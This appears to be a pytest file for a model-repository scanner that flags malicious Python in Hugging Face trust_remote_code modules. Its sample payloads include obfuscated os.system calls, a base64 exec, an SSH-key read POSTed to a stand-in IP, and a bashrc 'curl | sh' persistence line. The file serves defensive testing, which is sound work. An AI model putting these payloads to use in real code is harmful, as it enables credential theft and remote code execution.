"""Code shipped beside a model: auto_map references (MS600), Python source (MS601-MS606).

``transformers`` is not a dependency and is not installed. What ``trust_remote_code=True`` does
is reproduced instead: ``transformers.dynamic_module_utils.get_class_in_module`` loads the
module named by ``auto_map`` from the downloaded repository with
``importlib.util.spec_from_file_location`` + ``module_from_spec`` + ``spec.loader.exec_module``
(older releases put the module cache on ``sys.path`` and call ``importlib.import_module``; both
run the module body). The malicious samples marked *proven* are imported exactly that way, in a
child process whose working directory is the test's temporary directory, and must leave a
harmless marker file there; the scan must then flag them. Samples marked *detection-only*
(network) are not run: nothing may leave the machine during tests.

Benign samples are realistic transformers-style ``configuration_*.py``, ``modeling_*.py``,
``tokenization_*.py`` and lazy ``__init__.py`` files written for this test: they must produce
nothing at or above MEDIUM.

The scanner itself never imports, compiles or runs the analysed source (``ast.parse`` only).
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest

from modelshield import CoverageStatus, Finding, ScanResult, Severity, scan
from modelshield.checks import source
from modelshield.checks.context import Probe
from modelshield.cli import main
from modelshield.formats.python_source import Context as RunsAt
from modelshield.formats.python_source import analyse_source

MARKER = "modelshield_marker.txt"

# ---------------------------------------------------------------------------- benign samples

CONFIGURATION = '''\
"""Foo model configuration."""
from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)

FOO_PRETRAINED_CONFIG_ARCHIVE_MAP = {"acme/foo-7b": "https://huggingface.co/acme/foo-7b/config.json"}


class FooConfig(PretrainedConfig):
    model_type = "foo"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=4096,
        num_hidden_layers=32,
        rope_scaling=None,
        attn_implementation="eager",
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_hidden_layers = num_hidden_layers
        self.rope_scaling = rope_scaling
        self._rope_scaling_validation()
        super().__init__(**kwargs)

    def _rope_scaling_validation(self):
        if self.rope_scaling is None:
            return
        if not isinstance(self.rope_scaling, dict) or len(self.rope_scaling) != 2:
            raise ValueError(f"`rope_scaling` must be a dict, got {self.rope_scaling}")
'''

MODELING = '''\
# coding=utf-8
"""PyTorch Foo model."""
import importlib.util
import math
import os
import warnings
from dataclasses import dataclass
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import (
    add_start_docstrings,
    is_flash_attn_2_available,
    logging,
)
from .configuration_foo import FooConfig

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func, flash_attn_varlen_func  # noqa

try:
    from einops import rearrange
except ImportError:
    rearrange = None

logger = logging.get_logger(__name__)
_HAS_FUSED = importlib.util.find_spec("fused_dense_lib") is not None
_DEBUG = os.environ.get("FOO_DEBUG", "0") == "1"
_CONFIG_FOR_DOC = "FooConfig"


@dataclass
class FooOutput(BaseModelOutputWithPast):
    aux_loss: Optional[torch.FloatTensor] = None


class FooRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        input_dtype = hidden_states.dtype
        variance = hidden_states.to(torch.float32).pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states.to(input_dtype)


class FooRotaryEmbedding(nn.Module):
    def __init__(self, dim, max_position_embeddings=2048, base=10000, device=None):
        super().__init__()
        inv_freq = 1.0 / (base ** (torch.arange(0, dim, 2).float().to(device) / dim))
        self.register_buffer("inv_freq", inv_freq, persistent=False)
        self.max_seq_len_cached = max_position_embeddings

    def forward(self, x, seq_len=None):
        t = torch.arange(seq_len, device=x.device, dtype=self.inv_freq.dtype)
        freqs = torch.outer(t, self.inv_freq)
        emb = torch.cat((freqs, freqs), dim=-1)
        return emb.cos().to(x.dtype), emb.sin().to(x.dtype)


class FooAttention(nn.Module):
    def __init__(self, config: FooConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.head_dim = config.hidden_size // config.num_attention_heads
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.rotary_emb = FooRotaryEmbedding(self.head_dim)
        if layer_idx is None:
            warnings.warn("Instantiating without a layer_idx is deprecated", FutureWarning)

    def forward(self, hidden_states, attention_mask=None, output_attentions=False):
        bsz, q_len, _ = hidden_states.size()
        q = self.q_proj(hidden_states)
        attn = torch.matmul(q, q.transpose(2, 3)) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            attn = attn + attention_mask
        attn = F.softmax(attn, dim=-1, dtype=torch.float32).to(q.dtype)
        return attn, None


class FooPreTrainedModel(PreTrainedModel):
    config_class = FooConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["FooDecoderLayer"]

    def _init_weights(self, module):
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)


class FooForCausalLM(FooPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()
        if getattr(config, "use_compile", False):
            self.forward = torch.compile(self.forward)

    def load_extra_state(self, path):
        state = torch.load(os.path.join(path, "extra.bin"), map_location="cpu", weights_only=True)
        self.load_state_dict(state, strict=False)

    def forward(self, input_ids=None, labels=None, return_dict=None):
        logits = self.lm_head(input_ids).float()
        loss = None
        if labels is not None:
            loss = CrossEntropyLoss()(logits.view(-1, logits.size(-1)), labels.view(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits)

    def generate_step(self):
        self.eval()
        return self
'''

TOKENIZATION = '''\
"""Tokenization classes for Foo."""
import json
import os
import re
import unicodedata
from shutil import copyfile
from typing import Any, Dict, List, Optional, Tuple

import sentencepiece as spm

from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)
VOCAB_FILES_NAMES = {"vocab_file": "tokenizer.model", "merges_file": "merges.txt"}
_PATTERN = re.compile(r"""\\s+|[^\\s\\w]+""")


class FooTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(self, vocab_file, merges_file=None, unk_token="<unk>", **kwargs):
        self.vocab_file = vocab_file
        self.sp_model = spm.SentencePieceProcessor()
        self.sp_model.Load(vocab_file)
        self.merges = []
        if merges_file is not None:
            with open(merges_file, "r", encoding="utf-8") as f:
                self.merges = [tuple(line.split()) for line in f.read().split("\\n")[1:-1]]
        with open(os.path.join(os.path.dirname(vocab_file), "special.json"), encoding="utf-8") as f:
            self.special = json.load(f)
        super().__init__(unk_token=unk_token, **kwargs)

    @property
    def vocab_size(self):
        return self.sp_model.get_piece_size()

    def _tokenize(self, text):
        text = unicodedata.normalize("NFKC", text)
        return self.sp_model.encode(text, out_type=str)

    def convert_tokens_to_string(self, tokens):
        return self.sp_model.decode(tokens)

    def save_vocabulary(self, save_directory, filename_prefix=None):
        if not os.path.isdir(save_directory):
            logger.error(f"Vocabulary path ({save_directory}) should be a directory")
            return
        out_vocab_file = os.path.join(
            save_directory, (filename_prefix + "-" if filename_prefix else "") + "tokenizer.model"
        )
        if os.path.abspath(self.vocab_file) != os.path.abspath(out_vocab_file):
            copyfile(self.vocab_file, out_vocab_file)
        elif not os.path.isfile(self.vocab_file):
            with open(out_vocab_file, "wb") as fi:
                fi.write(self.sp_model.serialized_model_proto())
        return (out_vocab_file,)
'''

LAZY_INIT = """\
import importlib
import os
from typing import TYPE_CHECKING, Any

_import_structure = {
    "configuration_foo": ["FooConfig"],
    "modeling_foo": ["FooForCausalLM"],
}


class _LazyModule:
    def __init__(self, name, module_file, import_structure):
        self.__name__ = name
        self.__file__ = module_file
        self._class_to_module = {
            v: k for k, values in import_structure.items() for v in values
        }
        self.__path__ = [os.path.dirname(module_file)]

    def __getattr__(self, name: str) -> Any:
        module = self._get_module(self._class_to_module[name])
        return getattr(module, name)

    def _get_module(self, module_name: str):
        try:
            return importlib.import_module("." + module_name, self.__name__)
        except Exception as e:
            raise RuntimeError(f"Failed to import {module_name}") from e


if TYPE_CHECKING:
    from .configuration_foo import FooConfig
else:
    import sys

    sys.modules[__name__] = _LazyModule(__name__, globals()["__file__"], _import_structure)
"""

BENIGN_FILES = {
    "configuration_foo.py": CONFIGURATION,
    "modeling_foo.py": MODELING,
    "tokenization_foo.py": TOKENIZATION,
    "__init__.py": LAZY_INIT,
}

CONFIG = {
    "architectures": ["FooForCausalLM"],
    "model_type": "foo",
    "hidden_size": 64,
    "vocab_size": 100,
    "torch_dtype": "float32",
}
AUTO_MAP = {
    "AutoConfig": "configuration_foo.FooConfig",
    "AutoModelForCausalLM": "modeling_foo.FooForCausalLM",
}

# ---------------------------------------------------------------------------- malicious samples

_ECHO = f"echo ran > {MARKER}"
_B64 = base64.b64encode(f"import os\nos.system({_ECHO!r})\n".encode()).decode()

PROVEN: dict[str, tuple[str, str, Severity]] = {
    # name: (source, rule expected, minimum severity)
    "plain": (f"import os\nos.system({_ECHO!r})\n", "MS602", Severity.CRITICAL),
    "getattr-import": (
        f"getattr(__import__('o'+'s'), 'sys'+'tem')({_ECHO!r})\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "exec-base64": (
        f"import base64\nexec(base64.b64decode({_B64!r}))\n",
        "MS605",
        Severity.CRITICAL,
    ),
    "import-module-computed": (
        "import importlib\n"
        "name = ''.join(reversed('so'))\n"
        f"getattr(importlib.import_module(name), 'system')({_ECHO!r})\n",
        "MS605",
        Severity.HIGH,
    ),
    "from-import-alias": (
        f"from os import system as s\ns({_ECHO!r})\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "popen-shell": (
        f"import subprocess\nsubprocess.Popen({_ECHO!r}, shell=True).wait()\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "ctypes-libc": (
        f"import ctypes\nctypes.CDLL(None).system({_ECHO.encode()!r})\n",
        "MS605",
        Severity.CRITICAL,
    ),
    "called-from-module-level": (
        f"import os\n\ndef _setup():\n    os.system({_ECHO!r})\n\n_setup()\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "in-model-init": (
        "import os\nimport torch.nn as nn\n\n"
        "class EvilModel(nn.Module if False else object):\n"
        "    def __init__(self, config=None):\n"
        f"        os.system({_ECHO!r})\n\n"
        "EvilModel()\n",
        "MS602",
        Severity.HIGH,
    ),
}

DETECTION_ONLY: dict[str, tuple[str, str, Severity]] = {
    "socket": (
        "import socket\ns = socket.create_connection(('203.0.113.7', 4444))\n",
        "MS603",
        Severity.CRITICAL,
    ),
    "urlopen": (
        "import urllib.request\n"
        "def forward(x):\n"
        "    urllib.request.urlopen('http://203.0.113.7/?' + str(x))\n",
        "MS603",
        Severity.HIGH,
    ),
    "requests-post": (
        "import requests, os\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "requests.post('http://203.0.113.7', data=key)\n",
        "MS603",
        Severity.CRITICAL,
    ),
    "ssh-key-read": (
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        "MS604",
        Severity.HIGH,
    ),
    "write-bashrc": (
        "import os\n"
        "def _init_weights(self):\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "        f.write('curl http://203.0.113.7 | sh')\n",
        "MS604",
        Severity.HIGH,
    ),
    "rmtree-on-import": ("import shutil\nshutil.rmtree('/tmp/x')\n", "MS604", Severity.HIGH),
    "ld-preload": ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n", "MS602", Severity.HIGH),
    "builtins-patch": (
        "import builtins\nbuiltins.open = lambda *a, **k: None\n",
        "MS605",
        Severity.CRITICAL,
    ),
    "marshal": (
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'...'), globals())()\n",
        "MS605",
        Severity.CRITICAL,
    ),
    "pickle-loads": (
        "import pickle\ndef load(p):\n    return pickle.loads(open(p, 'rb').read())\n",
        "MS605",
        Severity.HIGH,
    ),
    "torch-load-unsafe": (
        "import torch\ndef load(p):\n    return torch.load(p, weights_only=False)\n",
        "MS605",
        Severity.HIGH,
    ),
    "torch-hub": (
        "import torch\nm = torch.hub.load('evil/repo', 'model', trust_repo=True)\n",
        "MS605",
        Severity.CRITICAL,
    ),
    "chr-join": (
        "import os\n"
        "cmd = ''.join(chr(c) for c in [105, 100])\n"
        "getattr(os, ''.join(['sys', 'tem']))(cmd)\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "sys-modules-getattr": (
        "import sys\nimport os\ngetattr(sys.modules['os'], 'metsys'[::-1])('id')\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "builtins-dict": (
        "f = __builtins__['ex' + 'ec'] if isinstance(__builtins__, dict) else None\n"
        "def go(p):\n    f(p)\n",
        "MS605",
        Severity.HIGH,
    ),
    "thread-target": (
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
        "MS602",
        Severity.CRITICAL,
    ),
    "star-import": ("from os import *\nsystem('id')\n", "MS602", Severity.CRITICAL),
    "decorator-at-import": (
        "import os\n\ndef deco(f):\n    os.system('id')\n    return f\n\n"
        "@deco\ndef forward(x):\n    return x\n",
        "MS602",
        Severity.CRITICAL,
    ),
}


# ---------------------------------------------------------------------------- helpers


def write_dir(root: Path, files: dict[str, str], config: dict[str, object] | None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (root / name).write_text(text, encoding="utf-8")
    if config is not None:
        (root / "config.json").write_text(json.dumps(config, indent=2), encoding="utf-8")
    return root


def by_rule(result: ScanResult, rule: str) -> list[Finding]:
    return [f for f in result.findings if f.rule_id == rule]


def at_least(findings: Iterable[Finding], severity: Severity) -> list[Finding]:
    return [f for f in findings if f.severity >= severity]


def import_like_trust_remote_code(directory: Path, module: str) -> subprocess.CompletedProcess[str]:
    """Load ``module`` from ``directory`` the way transformers' get_class_in_module does."""
    code = textwrap.dedent(
        """
        import importlib.util, sys
        path, name = sys.argv[1], sys.argv[2]
        spec = importlib.util.spec_from_file_location("transformers_modules.local." + name, path)
        module = importlib.util.module_from_spec(spec)
        sys.modules[spec.name] = module
        spec.loader.exec_module(module)
        """
    )
    return subprocess.run(
        [sys.executable, "-c", code, str(directory / f"{module}.py"), module],
        cwd=directory,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


# ---------------------------------------------------------------------------- benign


def test_benign_model_directory_is_info_only(tmp_path: Path) -> None:
    d = write_dir(tmp_path / "foo", BENIGN_FILES, CONFIG)
    (d / "tokenizer_config.json").write_text(
        json.dumps({"model_max_length": 2048, "tokenizer_class": "LlamaTokenizer"})
    )
    (d / "special_tokens_map.json").write_text(json.dumps({"bos_token": "<s>"}))
    (d / "vocab.json").write_text(json.dumps({"a": 0, "auto_map": 1}))
    result = scan(d)
    assert not at_least(result.findings, Severity.MEDIUM), [str(f) for f in result.findings]
    assert {f.location.path.rsplit("/", 1)[-1] for f in by_rule(result, "MS601")} == set(
        BENIGN_FILES
    )
    # What is reported below MEDIUM: a lazy relative import and a save-time copy.
    low = [f for f in result.findings if f.severity == Severity.LOW]
    assert {f.rule_id for f in low} <= {"MS604", "MS605"}, [str(f) for f in low]
    assert result.complete
    covered = {c.path.rsplit("/", 1)[-1]: c for c in result.coverage if c.member is None}
    assert covered["modeling_foo.py"].format == "python-source"
    assert covered["config.json"].format == "text"
    assert covered["config.json"].status is CoverageStatus.SCANNED
    assert covered["vocab.json"].format != "hf-config"
    assert main(["scan", "--no-config", "-q", str(d)]) == 0


def test_lazy_import_and_save_are_low(tmp_path: Path) -> None:
    a = analyse_source(LAZY_INIT.encode())
    assert a.error is None
    names = [c.name for c in a.calls]
    assert "importlib.import_module" in names
    d = write_dir(tmp_path, {"__init__.py": LAZY_INIT, "tokenization_foo.py": TOKENIZATION}, None)
    result = scan(d)
    lows = {(f.rule_id, f.severity) for f in result.findings if f.rule_id != "MS601"}
    assert lows == {("MS605", Severity.LOW), ("MS604", Severity.LOW)}


def test_auto_map_with_local_modules(tmp_path: Path) -> None:
    d = write_dir(tmp_path, BENIGN_FILES, {**CONFIG, "auto_map": AUTO_MAP})
    result = scan(d)
    refs = by_rule(result, "MS600")
    assert len(refs) == 2
    assert all(f.severity == Severity.MEDIUM for f in refs)
    assert any("modeling_foo.py" in f.message and "analysed" in f.message for f in refs)
    assert by_rule(result, "MS601")
    assert not at_least(result.findings, Severity.HIGH)
    assert main(["scan", "--no-config", "-q", str(d)]) == 0


def test_auto_map_module_missing_is_high(tmp_path: Path) -> None:
    d = write_dir(tmp_path, {}, {**CONFIG, "auto_map": AUTO_MAP})
    result = scan(d)
    refs = by_rule(result, "MS600")
    assert refs and all(f.severity == Severity.HIGH for f in refs)
    assert all("NOT in this directory" in f.message for f in refs)
    assert main(["scan", "--no-config", "-q", str(d)]) == 1


def test_cross_repository_auto_map_is_high(tmp_path: Path) -> None:
    tok = {
        "auto_map": {
            "AutoTokenizer": ["evil-org/helpers--tokenization_x.XTokenizer", None],
        },
        "tokenizer_class": "XTokenizer",
    }
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(tok))
    result = scan(tmp_path)
    (f,) = by_rule(result, "MS600")
    assert f.severity == Severity.HIGH
    assert "evil-org/helpers" in f.message and "ANOTHER repository" in f.message
    assert f.evidence == "AutoTokenizer -> evil-org/helpers--tokenization_x.XTokenizer"


def test_custom_pipeline_and_any_json_with_auto_map(tmp_path: Path) -> None:
    cfg = {"custom_pipelines": {"text-x": {"impl": "pipe.XPipeline", "pt": ["AutoModel"]}}}
    (tmp_path / "config.json").write_text(json.dumps(cfg))
    (tmp_path / "pipe.py").write_text("import torch\n")
    (tmp_path / "weird.json").write_text('{"auto_map": {"AutoModel": "m.M"}}')
    result = scan(tmp_path)
    refs = by_rule(result, "MS600")
    assert {f.severity for f in refs} == {Severity.MEDIUM, Severity.HIGH}
    assert any("pipe.py" in f.message for f in refs)


def test_invalid_config_json_is_plain_text(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"auto_map": ')
    result = scan(tmp_path)
    assert not result.findings
    assert result.coverage[0].format == "text" and result.complete


def test_matches_claims_only_python_and_model_configs() -> None:
    def probe(name: str, head: bytes) -> Probe:
        return Probe(head, len(head), name, None)

    assert source.matches(probe("modeling_x.py", b"import torch\n"))
    assert source.matches(probe("config.json", b'{"model_type": "x"}'))
    assert source.matches(probe("adapter_config.json", b'{"r": 8}'))
    assert source.matches(probe("anything.json", b'{"auto_map": {}}'))
    assert not source.matches(probe("vocab.json", b'{"a": 1}'))
    assert not source.matches(probe("README.md", b"import os\nos.system('x')\n"))
    assert not source.matches(probe("notes.txt", b"hello"))
    assert not source.matches(probe("x.py", b"\x00\x01\x02binary"))


# ---------------------------------------------------------------------------- malicious


@pytest.mark.parametrize("name", sorted(PROVEN))
def test_proven_payload_runs_on_import_and_is_flagged(tmp_path: Path, name: str) -> None:
    """The module really runs when imported as trust_remote_code imports it; then it is flagged."""
    text, rule, severity = PROVEN[name]
    d = write_dir(
        tmp_path,
        {"modeling_evil.py": text},
        {**CONFIG, "auto_map": {"AutoModel": "modeling_evil.EvilModel"}},
    )
    marker = d / MARKER
    done = import_like_trust_remote_code(d, "modeling_evil")
    assert marker.exists(), (done.stdout, done.stderr)
    assert marker.read_text().strip() == "ran"
    marker.unlink()
    result = scan(d)
    hits = at_least(by_rule(result, rule), severity)
    assert hits, [str(f) for f in result.findings]
    assert any(f.location.offset is not None for f in hits)
    assert any(f.message.startswith("line ") for f in hits)
    assert main(["scan", "--no-config", "-q", str(d)]) == 1
    assert not marker.exists()  # scanning ran nothing


def test_plain_os_system_evidence(tmp_path: Path) -> None:
    text = "import os\n\nos.system('echo ran > modelshield_marker.txt')\n"
    (tmp_path / "modeling_evil.py").write_text(text)
    result = scan(tmp_path)
    (f,) = by_rule(result, "MS602")
    assert f.severity == Severity.CRITICAL
    assert f.message.startswith("line 3:") and "runs on import" in f.message
    assert f.evidence == "os.system('echo ran > modelshield_marker.txt')"
    assert f.location.offset == text.index("os.system")


def test_obfuscated_call_is_reconstructed(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("getattr(__import__('o'+'s'), 'sys'+'tem')('id')\n")
    (f,) = by_rule(scan(tmp_path), "MS602")
    assert f.evidence is not None and f.evidence.startswith("os.system('id')")
    assert "as written" in f.evidence


def test_exec_payload_is_decoded_and_analysed(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text(PROVEN["exec-base64"][0])
    result = scan(tmp_path)
    inner = by_rule(result, "MS602")
    assert inner and "in code run by builtins.exec at line 2" in inner[0].message
    assert inner[0].severity == Severity.CRITICAL
    outer = by_rule(result, "MS605")
    assert outer and outer[0].evidence and "os.system" in outer[0].evidence


def test_constant_harmless_exec_is_medium(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("def f():\n    exec('x = 1')\n")
    (f,) = by_rule(scan(tmp_path), "MS605")
    assert f.severity == Severity.MEDIUM


@pytest.mark.parametrize("name", sorted(DETECTION_ONLY))
def test_detection_only_payloads(tmp_path: Path, name: str) -> None:
    """Detection only: these would reach the network or the user's files; never run here."""
    text, rule, severity = DETECTION_ONLY[name]
    (tmp_path / "modeling_x.py").write_text(text)
    result = scan(tmp_path)
    assert at_least(by_rule(result, rule), severity), [str(f) for f in result.findings]


def test_script_only_code_is_low(tmp_path: Path) -> None:
    text = "import os\nif __name__ == '__main__':\n    os.system('id')\nelse:\n    pass\n"
    (tmp_path / "convert.py").write_text(text)
    (f,) = by_rule(scan(tmp_path), "MS602")
    assert f.severity == Severity.LOW and "never on import" in f.message
    # The else branch does run on import.
    (tmp_path / "convert.py").write_text(
        "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('id')\n"
    )
    (f,) = by_rule(scan(tmp_path), "MS602")
    assert f.severity == Severity.CRITICAL


def test_shadowing_a_builtin_does_not_hide_it(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("exec(payload)\n\ndef exec(x):\n    return x\n")
    assert at_least(by_rule(scan(tmp_path), "MS605"), Severity.HIGH)


def test_python_inside_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "repo.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("repo/modeling_evil.py", "import os\nos.system('id')\n")
        zf.writestr("repo/config.json", json.dumps({"auto_map": AUTO_MAP}))
    result = scan(path)
    assert at_least(by_rule(result, "MS602"), Severity.CRITICAL)
    refs = by_rule(result, "MS600")
    assert refs and all("not looked for" in f.message for f in refs)


# ---------------------------------------------------------------------------- unparseable


def test_syntax_error_is_inconclusive(tmp_path: Path) -> None:
    (tmp_path / "modeling_new.py").write_text("def f(:\n    return 1\n")
    result = scan(tmp_path)
    (f,) = by_rule(result, "MS606")
    assert f.severity == Severity.MEDIUM and "syntax error" in f.message
    (cov,) = [c for c in result.coverage if c.path.endswith("modeling_new.py")]
    assert cov.status is CoverageStatus.INCONCLUSIVE
    assert main(["scan", "--no-config", "-q", str(tmp_path)]) == 3


def test_unparseable_source_mentioning_os_system_is_high(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("type X = int\nimport os\nos.system('id')\n")  # 3.12 syntax
    result = scan(tmp_path)
    (f,) = by_rule(result, "MS606")
    assert sys.version_info >= (3, 12) or (f.severity == Severity.HIGH and "os.system" in f.message)


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "+".join(["1"] * 200_000) + "\n",
        "x = " + "(" * 250 + "1" + ")" * 250 + "\n",
        "x = " + "-" * 100_000 + "1\n",
        "x = a" + ".b" * 50_000 + "\n",
    ],
    ids=["long-sum", "deep-parens", "unary-chain", "attr-chain"],
)
def test_huge_nested_expressions_do_not_crash(tmp_path: Path, text: str) -> None:
    (tmp_path / "m.py").write_text(text)
    result = scan(tmp_path)
    assert by_rule(result, "MS606")
    (cov,) = [c for c in result.coverage if c.path.endswith("m.py")]
    assert cov.status in (CoverageStatus.INCONCLUSIVE, CoverageStatus.PARTIAL)


def test_deep_but_parseable_chain_is_partial(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("import os\nx = os" + ".path" * 200 + "\nos.system('id')\n")
    result = scan(tmp_path)
    assert by_rule(result, "MS606")
    assert at_least(by_rule(result, "MS602"), Severity.CRITICAL)  # the rest was analysed
    (cov,) = [c for c in result.coverage if c.path.endswith("m.py")]
    assert cov.status is CoverageStatus.PARTIAL


def test_long_string_concatenation_folds(tmp_path: Path) -> None:
    terms = "+".join(repr(c) for c in "system")
    (tmp_path / "m.py").write_text(f"import os\ngetattr(os, {terms})('id')\n")
    assert at_least(by_rule(scan(tmp_path), "MS602"), Severity.CRITICAL)


def test_context_of_calls() -> None:
    a = analyse_source(
        b"import os\n"
        b"def helper():\n    os.getcwd()\n"
        b"class M:\n    x = os.getpid()\n    def forward(self):\n        os.getppid()\n"
        b"helper()\n"
    )
    ctx = {c.name: c.context for c in a.calls}
    assert ctx["os.getcwd"] is RunsAt.IMPORT  # called from module level
    assert ctx["os.getpid"] is RunsAt.IMPORT  # class body
    assert ctx["os.getppid"] is RunsAt.FUNCTION


# ---------------------------------------------------------------------------- corpus


@pytest.mark.corpus
def test_real_corpus_code_and_configs() -> None:
    """Every .py / HF configuration in the real corpus scans without findings >= HIGH."""
    root = os.environ.get("MODELSHIELD_CORPUS")
    if not root:
        pytest.skip("set MODELSHIELD_CORPUS to the corpus directory")
    names = {"config.json", "tokenizer_config.json", "preprocessor_config.json"}
    paths = [
        p
        for p in Path(root).rglob("*")
        if p.is_file()
        and ".stamps" not in p.parts
        and (p.suffix == ".py" or p.name in names or p.name.endswith("_config.json"))
    ]
    if not paths:
        pytest.skip(f"no Python source or Hugging Face configuration under {root}")
    result = scan([str(p) for p in paths])
    assert not at_least(result.findings, Severity.HIGH), [
        str(f) for f in at_least(result.findings, Severity.HIGH)
    ]
